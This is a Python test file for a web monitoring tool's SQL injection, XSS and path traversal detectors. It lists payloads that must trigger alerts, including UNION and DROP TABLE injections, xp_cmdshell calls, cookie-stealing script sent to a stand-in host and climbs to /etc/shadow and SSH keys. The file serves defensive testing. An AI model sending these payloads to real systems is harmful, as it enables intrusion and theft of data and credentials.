"""PathTraversal, SqlInjection and XssProbe: payloads that must fire, ordinary text that must not.

Payload shapes follow danielmiessler/SecLists (MIT) Fuzzing/SQLi/Generic-SQLi.txt,
Fuzzing/Polyglots/XSS_Polyglots.txt and Fuzzing/LFI/LFI-Jhaddix.txt; the ordinary texts are
searches and paths a real site sees. Times are invented; nothing reads a clock or sleeps.
"""

from __future__ import annotations

import dataclasses
import itertools
import re._parser as re_parser  # the stdlib's own parser, to check the shapes' structure
from typing import Any
from urllib.parse import quote, quote_plus

import pytest

from syncmon.security.detection import Detection, Severity
from syncmon.security.detectors.injection import PathTraversal, SqlInjection, XssProbe
from syncmon.security.patterns import MAX_SCAN, shapes
from syncmon.security.signals import Signal
from tests.security.support import run

T0 = 1_700_000_000_000
IP = "203.0.113.9"
_ids = itertools.count(1)


def hit(
    at_ms: int,
    url: str | None,
    *,
    ip: str | None = IP,
    user: str | None = None,
    name: str = "http_200",
    status: int | None = 200,
    target: str | None = None,
    details: tuple[tuple[str, str], ...] = (),
    spoofable: bool = False,
    eid: str | None = None,
) -> Signal:
    return Signal(
        at_ms=at_ms,
        project_id=1,
        event_id=eid or f"ev{next(_ids)}",
        category="api_access" if status is not None else "input_validation",
        name=name,
        client_ip=ip,
        user_id=user,
        target=target,
        url=None if url is None else f"https://shop.example.com{url}",
        status=status,
        spoofable=spoofable,
        details=details,
    )


def query(text: str) -> str:
    """`text` as a browser form sends it in the query string."""
    return "/search?q=" + quote_plus(text)


def single(detector: Any, url: str) -> list[Detection]:
    found: list[Detection] = detector.observe(hit(T0, url))
    return found


# --------------------------------------------------------------------------------------
# sql_injection


def sqli(text: str) -> str:
    """`text` as the value of an id parameter, percent-encoded as a client sends it."""
    return "/item?id=" + quote(text)


# Classic payloads one request proves: high at once, full confidence, the shape named.
SQLI_CERTAIN: list[tuple[str, str, str]] = [
    # (id, url, the shape that must be reported)
    ("union-as-typed", "/search?id=1' UNION SELECT password FROM users--", "union-based"),
    ("union-encoded", "/search?id=" + quote("1' UNION SELECT password FROM users--"), "union-based"),
    ("union-null-columns", "/item?id=1/**/UNION/**/SELECT/**/NULL,NULL--", "union-based"),
    ("union-versioned-comment", "/item?id=1/*!50000UNION*//*!50000SELECT*/1,2", "union-based"),
    ("union-newline-separators", "/item?id=1%0aunion%0aall%0aselect%0a1", "union-based"),
    (
        "union-negative-id",
        sqli("-1 union all select null,table_name from information_schema.tables--"),
        "union-based",
    ),
    ("union-in-path", "/products/1'+union+select+@@version--+", "union-based"),
    ("quoted-tautology", sqli("1' or '1'='1"), "tautology"),
    ("numeric-tautology", sqli("1 or 1=1"), "tautology"),
    ("or-1-1-comment", "/login?user=" + quote("' OR 1=1--"), "tautology"),
    ("upper-case-spaced", sqli("1' OR 1=1 --"), "tautology"),
    ("double-pipe-tautology", sqli("x' || 'a'='a"), "tautology"),
    ("login-bypass-comment", "/login?user=" + quote("admin'--"), "comment-truncation"),
    ("stacked-drop", sqli("1; DROP TABLE users"), "stacked-query"),
    ("stacked-quote-drop", sqli("x'; DROP TABLE users--"), "stacked-query"),
    ("bobby-tables", "/students?name=" + quote("Robert'); DROP TABLE Students;--"), "stacked-query"),
    ("stacked-exec", sqli("1;exec master..xp_cmdshell 'dir'"), "stacked-query"),
    ("mysql-sleep", "/item?id=1+AND+SLEEP(5)", "time-based"),
    ("pg-sleep", sqli("1) or pg_sleep(5)--"), "time-based"),
    ("benchmark", sqli("1 or benchmark(10000000,MD5(1))#"), "time-based"),
    ("waitfor-delay", sqli("1;waitfor delay '0:0:5'--"), "time-based"),
    ("sqlmap-if-sleep", sqli("1'XOR(if(now()=sysdate(),sleep(5),0))XOR'Z"), "time-based"),
    ("error-extractvalue", sqli("1 and extractvalue(1,concat(0x7e,version()))"), "error-based"),
    (
        "error-double-query",
        sqli(
            "1 and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x"
            " from information_schema.tables group by x)a)"
        ),
        "error-based",
    ),
    (
        "schema-enumeration",
        sqli("1 and 1=2 union select table_name from information_schema.tables"),
        "schema-enumeration",
    ),
    ("file-read", sqli("1 union select load_file('/etc/passwd')"), "file-access"),
    ("file-write", sqli("1 union select 'x' into outfile '/var/www/x.php'"), "file-access"),
    ("xp-cmdshell", sqli("'; exec master..xp_cmdshell 'dir'--"), "command-execution"),
]


@pytest.mark.parametrize(("url", "shape"), [c[1:] for c in SQLI_CERTAIN], ids=[c[0] for c in SQLI_CERTAIN])
def test_sqli_one_certain_payload_fires_high(url: str, shape: str) -> None:
    signal = hit(T0, url)
    found = SqlInjection().observe(signal)
    assert len(found) == 1
    d = found[0]
    assert (d.rule, d.subject_type, d.subject, d.severity) == ("sql_injection", "ip", IP, Severity.HIGH)
    assert (d.count, d.first_ms, d.last_ms, d.evidence, d.confidence) == (1, T0, T0, (signal.event_id,), 1.0)
    assert shape in d.details["certain"]
    assert d.details["indicators"][: len(d.details["certain"])] == d.details["certain"]
    assert d.details["field"] == "url"
    assert d.details["double_encoded"] is False


# A strong indicator, or two weak ones, without a certain shape: medium, confidence 0.75.
SQLI_PROBABLE: list[tuple[str, str, str]] = [
    # (id, url, an indicator that must be among those reported)
    ("order-by-probe", sqli("1' ORDER BY 1--+"), "orderby1"),
    ("union-all-select-alone", query("union all select"), "union all select"),
    ("information-schema-alone", sqli("information_schema"), "information_schema"),
    ("group-concat", sqli("group_concat(username)"), "group_concat("),
    ("two-weak-indicators", sqli("ascii(substr(password,1,1))"), "ascii("),
    ("having-probe", sqli("1 having 1=1--+"), "having 1=1"),
    ("sleep-call-alone", sqli("sleep(5)"), "sleep(5"),
]


@pytest.mark.parametrize(
    ("url", "indicator"), [c[1:] for c in SQLI_PROBABLE], ids=[c[0] for c in SQLI_PROBABLE]
)
def test_sqli_one_probable_payload_fires_medium(url: str, indicator: str) -> None:
    found = SqlInjection().observe(hit(T0, url))
    assert [(d.severity, d.count, d.confidence, d.details["certain"]) for d in found] == [
        (Severity.MEDIUM, 1, 0.75, [])
    ]
    assert indicator in found[0].details["indicators"]


def test_sqli_double_encoded_payload() -> None:
    once = quote("1' or 1=1--", safe="")
    twice = quote(once, safe="")  # %2527 …
    assert "%25" in twice
    found = single(SqlInjection(), f"/item?id={twice}")
    assert [(d.severity, d.details["double_encoded"]) for d in found] == [(Severity.HIGH, True)]
    assert "'or1=1" in found[0].details["indicators"]


def test_certain_after_probable_escalates_and_probable_after_certain_is_silent() -> None:
    detector = SqlInjection()
    probable = run(detector, [hit(T0, sqli("group_concat(username)"))])
    certain = run(detector, [hit(T0 + 1_000, sqli("1' union select password from users--"))])
    assert [(d.severity, d.confidence) for d in probable + certain] == [
        (Severity.MEDIUM, 0.75),
        (Severity.HIGH, 1.0),
    ]
    # Both single-payload triggers are now quiet for 5 min; more payloads only fill the bucket.
    assert run(detector, [hit(T0 + 2_000, sqli("information_schema"))]) == []
    assert run(detector, [hit(T0 + 3_000, sqli("1 or 1=1"))]) == []
    # And the other way round: after a certain one, a probable one says nothing new.
    other = SqlInjection()
    first = run(other, [hit(T0, sqli("1 or 1=1")), hit(T0 + 1_000, sqli("group_concat(x)"))])
    assert [d.severity for d in first] == [Severity.HIGH]


def test_certain_tier_off_counts_certain_payloads_as_probable() -> None:
    detector = SqlInjection(dataclasses.replace(SqlInjection.defaults, certain=None))
    found = run(detector, [hit(T0, "/search?id=1' UNION SELECT password FROM users--")])
    assert [(d.severity, d.confidence, d.details["certain"]) for d in found] == [
        (Severity.MEDIUM, 0.75, ["union-based"])
    ]


SQLI_QUIET: list[tuple[str, str]] = [
    ("apostrophe-surname", query("O'Brien")),
    ("apostrophe-surname-id", "/customers?name=O%27Brien&id=12"),
    ("possessive-union", query("workers' union select committee")),
    ("select-in-prose", query("please select one or more sizes")),
    ("select-star-in-prose", query("select * from the menu")),
    ("numbers-or-numbers", query("1 or 2 pieces")),
    ("size-or-size", "/shoes?size=10 or 11"),
    ("drop-table-furniture", query("coffee table; drop leaf table")),
    ("possessive-dashes", query("tom's-- special")),
    ("it-is-or", query("it's blue or green")),
    ("select-a-union", query("select a union of the best products")),
    ("labor-union-select-committee", query("labor union select committee")),
    ("apostrophe-name", query("o'brien")),
    ("apostrophe-and-dashes", query("Tom's diner -- 1987")),
    ("rock-n-roll", query("rock 'n' roll -- live")),
    ("sleep-apnea", query("sleep(apnea) clinic")),
    ("sql-tutorial-path", "/blog/sql-tutorial-select-from-where"),
    ("sorting-params", "/api/v1/items?sort=-created_at&order=desc&ids=1,2,3"),
    ("in-order-by-1pm", query("deliver in order by 1pm")),
    ("podcast-parenthesis", query("podcast(2024) episodes")),
    ("percent-sign", query("100% cotton")),
    ("color-param", "/shop?color1=1&color2=2"),
    ("jwt-in-query", "/cb?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc-_"),
    ("date-range", "/report?range=2024-01-01--2024-02-01"),
]


@pytest.mark.parametrize("url", [u for _, u in SQLI_QUIET], ids=[i for i, _ in SQLI_QUIET])
def test_sqli_must_not_fire(url: str) -> None:
    detector = SqlInjection()
    # Even typed letter by letter (search-as-you-type), at request rate: no detection.
    signals = [hit(T0 + i * 50, url[: len(url) - i]) for i in range(min(12, len(url) - 10))]
    assert run(detector, [hit(T0, url), *signals]) == []


def test_sqli_in_a_reported_parameter() -> None:
    signal = hit(
        T0,
        None,
        name="input_validation_fail",
        status=None,
        details=(("parameter", "' OR 1=1 --"), ("field", "username")),
    )
    found = SqlInjection().observe(signal)
    assert [(d.severity, d.details["field"], d.details["certain"]) for d in found] == [
        (Severity.HIGH, "parameter", ["tautology"])
    ]
    # Other detail keys are not read.
    other = hit(T0, None, name="input_validation_fail", status=None, details=(("note", "' OR 1=1 --"),))
    assert SqlInjection().observe(other) == []


def test_sqli_application_verdict_counts_directly() -> None:
    by_ip = SqlInjection().observe(hit(T0, None, name="malicious_sqli", status=None))
    assert [(d.subject_type, d.subject, d.severity, d.details["indicators"]) for d in by_ip] == [
        ("ip", IP, Severity.HIGH, ["event:malicious_sqli"])
    ]
    by_account = SqlInjection().observe(
        hit(T0, None, ip=None, user=" Mallory ", name="malicious_sqli", status=None)
    )
    assert [(d.subject_type, d.subject) for d in by_account] == [("account", "mallory")]


def test_sqli_burst_of_probable_payloads_escalates_to_high() -> None:
    detector = SqlInjection()
    payloads = [hit(T0 + i * 100, "/item?id=" + quote(f"{i}' order by 1--+")) for i in range(11)]
    found = run(detector, payloads)
    assert [(d.severity, d.count, d.first_ms, d.last_ms, d.confidence) for d in found] == [
        (Severity.MEDIUM, 1, T0, T0, 0.75),
        (Severity.HIGH, 11, T0, T0 + 1_000, 1.0),
    ]
    burst = found[1]
    assert burst.evidence == tuple(s.event_id for s in payloads[:10])
    assert burst.details["payloads"] == 11
    assert "probing" in burst.title
    # Both quiet for 5 min: a further 100 different payloads say nothing new.
    more = [hit(T0 + 2_000 + i * 100, "/item?id=" + quote(f"{i} having 1=1--+")) for i in range(100)]
    assert run(detector, more) == []
    later = run(
        detector, [hit(T0 + 300_000 + i, "/item?id=" + quote(f"{i}' order by 1--+")) for i in range(2)]
    )
    assert [(d.severity, d.count) for d in later] == [(Severity.MEDIUM, 1)]


def test_sqli_same_payload_repeated_is_one_payload() -> None:
    found = run(SqlInjection(), [hit(T0 + i * 10, "/item?id=1%27%20or%201=1--") for i in range(200)])
    assert [(d.severity, d.count) for d in found] == [(Severity.HIGH, 1)]


def test_sqli_batch_in_one_millisecond_keeps_both_detections_distinct() -> None:
    found = run(SqlInjection(), [hit(T0, "/item?id=" + quote(f"{i}' or 1=1--")) for i in range(11)])
    assert [(d.severity, d.count, d.last_ms) for d in found] == [
        (Severity.HIGH, 1, T0),
        (Severity.HIGH, 11, T0 + 1),
    ]


def test_sqli_csp_reports_and_subjectless_signals_are_skipped() -> None:
    payload = "/item?id=" + quote("1 union all select null--")
    report = hit(T0, payload, name="malicious_csp_violation", status=None, spoofable=True)
    assert SqlInjection().observe(report) == []
    assert SqlInjection().observe(hit(T0, payload, ip=None)) == []


def test_sqli_spoofable_signal_lowers_confidence() -> None:
    found = SqlInjection().observe(hit(T0, "/item?id=1%27%20or%201=1--", spoofable=True))
    assert [d.confidence for d in found] == [0.5]
    found = SqlInjection().observe(hit(T0, sqli("group_concat(x)"), spoofable=True))
    assert [d.confidence for d in found] == [0.375]


# --------------------------------------------------------------------------------------
# xss_probe

# Executable script one request proves: medium at once (XSS is one level below sqli).
XSS_CERTAIN: list[tuple[str, str, str]] = [
    ("script-alert", "/search?q=" + quote("<script>alert(1)</script>"), "script-tag"),
    ("mixed-case", "/search?q=" + quote("<ScRiPt>alert(1)</sCrIpT>"), "script-tag"),
    ("raw-unencoded", "/search?q=<script>alert(1)</script>", "script-tag"),
    (
        "script-cookie-theft",
        "/s?q=" + quote("<script>fetch('//x.example/?'+document.cookie)</script>"),
        "script-tag",
    ),
    ("img-onerror", "/search?q=" + quote('"><img src=x onerror=alert(1)>'), "event-handler"),
    ("svg-onload", "/search?q=" + quote("<svg/onload=alert(1)>"), "event-handler"),
    ("details-ontoggle", "/search?q=" + quote("<details open ontoggle=alert(1)>"), "event-handler"),
    ("body-onload", "/search?q=" + quote("<body onload=alert('xss')>"), "event-handler"),
    ("whitespace-in-handler", "/search?q=" + quote("<img src=x onerror = alert(1)>"), "event-handler"),
    ("attribute-break", "/p?name=" + quote('" onmouseover="alert(1)'), "event-handler"),
    ("template-literal", "/search?q=" + quote("<img src=x onerror=alert`1`>"), "event-handler"),
    ("in-fragment", "/page#<img src=x onerror=alert(1)>", "event-handler"),
    ("javascript-uri-cookie", "/go?next=" + quote("javascript:alert(document.cookie)"), "javascript-url"),
    ("href-javascript", "/c?html=" + quote("<a href=javascript:alert(1)>click</a>"), "javascript-url"),
]


@pytest.mark.parametrize(("url", "shape"), [c[1:] for c in XSS_CERTAIN], ids=[c[0] for c in XSS_CERTAIN])
def test_xss_one_certain_payload_fires_medium(url: str, shape: str) -> None:
    found = single(XssProbe(), url)
    assert [(d.rule, d.subject, d.severity, d.count, d.confidence) for d in found] == [
        ("xss_probe", IP, Severity.MEDIUM, 1, 1.0)
    ]
    assert shape in found[0].details["certain"]


XSS_PROBABLE: list[tuple[str, str]] = [
    ("js-string-break", "/search?q=" + quote("';alert(String.fromCharCode(88,83,83))//")),
    ("external-script", "/search?q=" + quote("<script src=//evil.example/x.js></script>")),
    ("data-url", "/go?next=" + quote("data:text/html;base64,PHNjcmlwdD4=")),
    ("tag-break-without-script", "/search?q=" + quote('"><svg>')),
]


@pytest.mark.parametrize("url", [u for _, u in XSS_PROBABLE], ids=[i for i, _ in XSS_PROBABLE])
def test_xss_one_probable_payload_fires_low(url: str) -> None:
    found = single(XssProbe(), url)
    assert [(d.severity, d.count, d.confidence, d.details["certain"]) for d in found] == [
        (Severity.LOW, 1, 0.75, [])
    ]


def test_xss_double_encoded_payload() -> None:
    twice = quote(quote("<script>alert(1)</script>", safe=""), safe="")
    found = single(XssProbe(), f"/search?q={twice}")
    assert [(d.severity, d.details["double_encoded"]) for d in found] == [(Severity.MEDIUM, True)]


XSS_QUIET: list[tuple[str, str]] = [
    ("blog-script-post", "/blog/how-to-write-a-deploy-script"),
    ("blog-javascript-post", "/blog/2024/01/javascript-tips-and-tricks"),
    ("search-javascript-colon", query("javascript: the good parts")),
    ("search-img-tag", query("<img> tag")),
    ("search-script-element", query("how does the <script> element work")),
    ("search-window-onload", query("window.onload=function")),
    ("search-postscript", query("postscript printer")),
    ("search-red-alert", query("red alert(2) remastered")),
    ("search-document-cookie", query("document.cookie explained")),
    ("svg-icons-path", "/products/svg-icons?sort=-price&page=2"),
    ("wiki-scripts", "/wiki/Category:Scripts"),
    ("retrieval", query("retrieval(augmented) generation")),
    ("alert-in-prose", query("set an alert(email) when the price drops")),
    ("onload-in-prose", query("how window.onload works")),
    ("on-words-in-path", "/collections/onsale?sort=confirmed&print=1"),
]


@pytest.mark.parametrize("url", [u for _, u in XSS_QUIET], ids=[i for i, _ in XSS_QUIET])
def test_xss_must_not_fire(url: str) -> None:
    signals = [hit(T0 + i * 50, url[: len(url) - i]) for i in range(min(8, len(url) - 10))]
    assert run(XssProbe(), [hit(T0, url), *signals]) == []


def test_xss_burst_escalates_to_medium() -> None:
    payloads = [hit(T0 + i * 100, "/search?q=" + quote(f"'-alert({i})-'")) for i in range(6)]
    found = run(XssProbe(), payloads)
    assert [(d.severity, d.count, d.window_ms, d.confidence) for d in found] == [
        (Severity.LOW, 1, 0, 0.75),
        (Severity.MEDIUM, 6, 500, 1.0),
    ]


def test_xss_csp_report_is_the_victim_not_the_attacker() -> None:
    url = "/search?q=" + quote("<script>alert(1)</script>")
    report = hit(T0, url, name="malicious_csp_violation", status=None, spoofable=True)
    assert XssProbe().observe(report) == []


# --------------------------------------------------------------------------------------
# path_traversal

# Climbing to a system file, a system file as a value, a PHP stream wrapper: high at once.
TRAVERSAL_CERTAIN: list[tuple[str, str, str]] = [
    ("dot-dot-etc-passwd", "/download?file=../../../../etc/passwd", "traversal-to-system-file"),
    ("two-levels", "/download?file=../../etc/passwd", "traversal-to-system-file"),
    ("one-level", "/download?file=../etc/shadow", "traversal-to-system-file"),
    ("encoded-slashes", "/download?file=..%2f..%2f..%2fetc%2fpasswd", "traversal-to-system-file"),
    ("encoded-dots", "/%2e%2e/%2e%2e/%2e%2e/etc/shadow", "traversal-to-system-file"),
    (
        "double-encoded",
        "/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "traversal-to-system-file",
    ),
    ("backslashes", "/download?file=..\\..\\..\\windows\\win.ini", "traversal-to-system-file"),
    ("encoded-backslashes", "/download?file=..%5c..%5c..%5cboot.ini", "traversal-to-system-file"),
    ("filter-bypass", "/download?file=....//....//etc/passwd", "traversal-to-system-file"),
    ("proc-self-environ", "/?page=../../../proc/self/environ", "traversal-to-system-file"),
    ("ssh-key", "/view?f=../../home/deploy/.ssh/id_rsa", "traversal-to-system-file"),
    ("absolute-etc-passwd", "/download?file=/etc/passwd", "system-file-value"),
    ("file-url", "/fetch?url=file:///etc/passwd", "system-file-value"),
    ("php-wrapper", "/index.php?page=php://filter/convert.base64-encode/resource=index.php", "php-wrapper"),
]


@pytest.mark.parametrize(
    ("url", "shape"), [c[1:] for c in TRAVERSAL_CERTAIN], ids=[c[0] for c in TRAVERSAL_CERTAIN]
)
def test_traversal_one_certain_payload_fires_high(url: str, shape: str) -> None:
    found = single(PathTraversal(), url)
    assert [(d.rule, d.subject, d.severity, d.count, d.confidence) for d in found] == [
        ("path_traversal", IP, Severity.HIGH, 1, 1.0)
    ]
    assert shape in found[0].details["certain"]


TRAVERSAL_PROBABLE: list[tuple[str, str]] = [
    ("deep-climb-no-system-file", "/static/../../../../app/config.yml"),
    ("windows-drive", "/download?file=" + quote("c:\\windows\\system32\\drivers\\etc\\hosts")),
    ("tomcat-semicolon", "/app/..;/manager/html"),
    ("overlong-utf8", "/download?file=..%c0%af..%c0%afboot.ini"),
    ("weak-pair-null-byte", "/download?file=../config.php%00.jpg"),
]


@pytest.mark.parametrize("url", [u for _, u in TRAVERSAL_PROBABLE], ids=[i for i, _ in TRAVERSAL_PROBABLE])
def test_traversal_one_probable_payload_fires_medium(url: str) -> None:
    found = single(PathTraversal(), url)
    assert [(d.severity, d.count, d.confidence, d.details["certain"]) for d in found] == [
        (Severity.MEDIUM, 1, 0.75, [])
    ]


def test_traversal_double_encoding_is_flagged() -> None:
    found = single(PathTraversal(), "/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd")
    # %2e%2e (encoded dots, a probable payload) is visible after one decoding; the climb to
    # /etc/passwd, which makes it certain, only after two.
    assert found[0].details["double_encoded"] is True
    assert "/etc/passwd" in found[0].details["indicators"]
    found = single(PathTraversal(), "/download?file=%252e%252e%252fsecret.txt")
    assert [(d.severity, d.details["double_encoded"]) for d in found] == [(Severity.MEDIUM, False)]
    found = single(PathTraversal(), "/download?file=%252fetc%252fpasswd")
    assert [d.details["double_encoded"] for d in found] == [True]


def test_traversal_in_a_security_event_target() -> None:
    signal = hit(T0, None, name="upload_validation_failed", status=None, target="../../etc/cron.d/x")
    found = PathTraversal().observe(signal)
    assert [(d.details["field"], d.severity) for d in found] == [("target", Severity.MEDIUM)]
    signal = hit(T0, None, name="upload_validation_failed", status=None, target="../../etc/passwd")
    found = PathTraversal().observe(signal)
    assert [(d.details["field"], d.severity) for d in found] == [("target", Severity.HIGH)]


TRAVERSAL_QUIET: list[tuple[str, str]] = [
    ("dots-in-file-name", "/files/report..final.pdf"),
    ("one-level-up", "/docs/../guide"),
    ("search-for-dot-dot-slash", query("a/b/../c")),
    ("blog-about-passwd", "/blog/2024/etc-passwd-explained"),
    ("windows-user-path", query("C:\\Users\\me\\Documents")),
    ("static-asset", "/static/app.3f9a.min.js"),
    ("single-null-byte", "/download?file=report.pdf%00"),
    ("dot-segments", "/a/./b/./c"),
    ("docs-about-passwd", "/docs/linux/etc-passwd-format"),
    ("relative-asset", "/theme/../img/logo.png"),
    ("etc-in-words", query("shoes, bags, etc/accessories")),
]


@pytest.mark.parametrize("url", [u for _, u in TRAVERSAL_QUIET], ids=[i for i, _ in TRAVERSAL_QUIET])
def test_traversal_must_not_fire(url: str) -> None:
    assert run(PathTraversal(), [hit(T0 + i, url) for i in range(5)]) == []


def test_traversal_burst_and_quiet_period() -> None:
    detector = PathTraversal()
    files = ["app.yml", "db.yml", "secrets.yml", "settings.py", "local.py"]
    found = run(detector, [hit(T0 + i * 1_000, f"/dl?f=../../../{f}") for i, f in enumerate(files)])
    # Capacity 3: the 4th distinct payload overflows; the 5th falls in the 2 min blackhole.
    assert [(d.severity, d.count, d.last_ms) for d in found] == [
        (Severity.MEDIUM, 1, T0),
        (Severity.HIGH, 4, T0 + 3_000),
    ]
    assert run(detector, [hit(T0 + 100_000, "/dl?f=../../../other.yml")]) == []
    assert [d.severity for d in run(detector, [hit(T0 + 121_000, "/dl?f=../../../other.yml")])] == [
        Severity.MEDIUM
    ]


# --------------------------------------------------------------------------------------
# hostile input, memory, determinism

HOSTILE = [
    # Anchors repeated, so every shape runs over the whole (clipped) text.
    "/?q=" + "1' union select " * 10_000,
    "/?q=" + "=1'or" * 30_000,
    "/?q=" + "='x" * 50_000 + ";",
    "/?q=" + "<a onx" * 30_000 + "alert(",
    "/?q=" + "<script>" * 20_000 + "alert(",
    "/?q=" + "=javascript:" * 20_000 + "alert(",
    "/?q=" + "../" * 50_000 + "etc/",
    "/?q=" + "if(" * 50_000 + ",sleep(",
    "/?q=" + "%25" * 50_000,
    "/?q=" + "%2525" * 30_000,
    "/?q=" + "'" * 150_000,
    "/?q=" + "<" * 150_000,
    "/?q=" + "/*!" * 50_000,
    "/?q=" + "(" * 150_000,
    "/?q=" + "a" * 150_000 + "' or 1=1--",
    "/" + "..%2f" * 30_000,
]


@pytest.mark.parametrize("cls", [PathTraversal, SqlInjection, XssProbe])
def test_hostile_long_urls_are_linear_and_bounded(cls: type[Any]) -> None:
    detector = cls()
    for index, url in enumerate(HOSTILE):
        detector.observe(hit(T0 + index, url))
    # Only the first MAX_SCAN characters are read: a payload behind them is not seen.
    assert (
        detector.match("/?q=" + "a" * MAX_SCAN + "' or 1=1-- <script>alert(1)</script> ../../etc/passwd")
        is None
    )


def _repeats(parsed: Any, inside: int = 0) -> list[tuple[int, int]]:
    """(max, depth) of every repetition in a parsed expression (depth: repetitions of more
    than one around it)."""
    found: list[tuple[int, int]] = []
    for op, arg in parsed:
        if op in (re_parser.MAX_REPEAT, re_parser.MIN_REPEAT):
            _, high, inner = arg
            found.append((high, inside))
            found += _repeats(inner, inside + (high > 1))
        elif op == re_parser.SUBPATTERN:
            found += _repeats(arg[-1], inside)
        elif op == re_parser.BRANCH:
            for branch in arg[1]:
                found += _repeats(branch, inside)
        elif op in (re_parser.ASSERT, re_parser.ASSERT_NOT):
            found += _repeats(arg[1], inside)
    return found


@pytest.mark.parametrize("name", ["sqli.txt", "xss.txt", "path_traversal.txt"])
def test_certain_shapes_are_bounded_and_anchored(name: str) -> None:
    found = shapes(name)
    assert found
    for shape in found:
        repeats = _repeats(re_parser.parse(shape.source))
        # Every repetition has a small upper bound, and none with more than one iteration is
        # nested in another: the work per position is bounded, so a scan stays linear.
        assert all(high <= 500 for high, _ in repeats), shape.name
        assert all(depth == 0 or high <= 1 for high, depth in repeats), shape.name
        # Anchors are looked for without whitespace; one with a space could never be found.
        assert shape.anchors and all(a and not any(c.isspace() for c in a) for a in shape.anchors), shape.name


def test_match_reports_linear_work_only() -> None:
    # The one regular expression (SQL comments) has no nested quantifier; a worst case for it.
    assert SqlInjection().match("/?q=" + "/*!" + "9" * 100_000) is None


@pytest.mark.parametrize("cls", [PathTraversal, SqlInjection, XssProbe])
def test_memory_is_bounded_by_active_subjects(cls: type[Any]) -> None:
    payload = {
        PathTraversal: "/dl?f=../../etc/passwd",
        SqlInjection: "/item?id=1%27%20or%201=1--",
        XssProbe: "/s?q=%3Cscript%3Ealert(1)%3C/script%3E",
    }[cls]
    detector = cls()
    for index in range(100_000):
        ip = f"10.{index >> 16 & 255}.{index >> 8 & 255}.{index & 255}"
        detector.observe(hit(T0 + index, payload, ip=ip, eid="e"))
    assert len(detector) >= 100_000
    assert detector.evict(T0 + 100_000) < len(detector)  # in the blackhole: kept
    assert detector.evict(T0 + 100_000 + 2 * 3_600_000) > 0
    assert len(detector) == 0


@pytest.mark.parametrize("cls", [PathTraversal, SqlInjection, XssProbe])
def test_detectors_are_deterministic(cls: type[Any]) -> None:
    urls = [
        "/dl?f=../../etc/passwd",
        "/item?id=1%27%20or%201=1--",
        "/s?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/ok",
        query("labor union select committee"),
    ]
    stream = [
        hit(T0 + i * 37, f"{urls[i % len(urls)]}&n={i % 17}", ip=f"192.0.2.{i % 4}", eid=f"d{i}")
        for i in range(3_000)
    ]
    first = [d.as_dict() for d in run(cls(), stream)]
    assert first == [d.as_dict() for d in run(cls(), stream)]
    assert any(d["severity"] != "low" or cls is XssProbe for d in first)
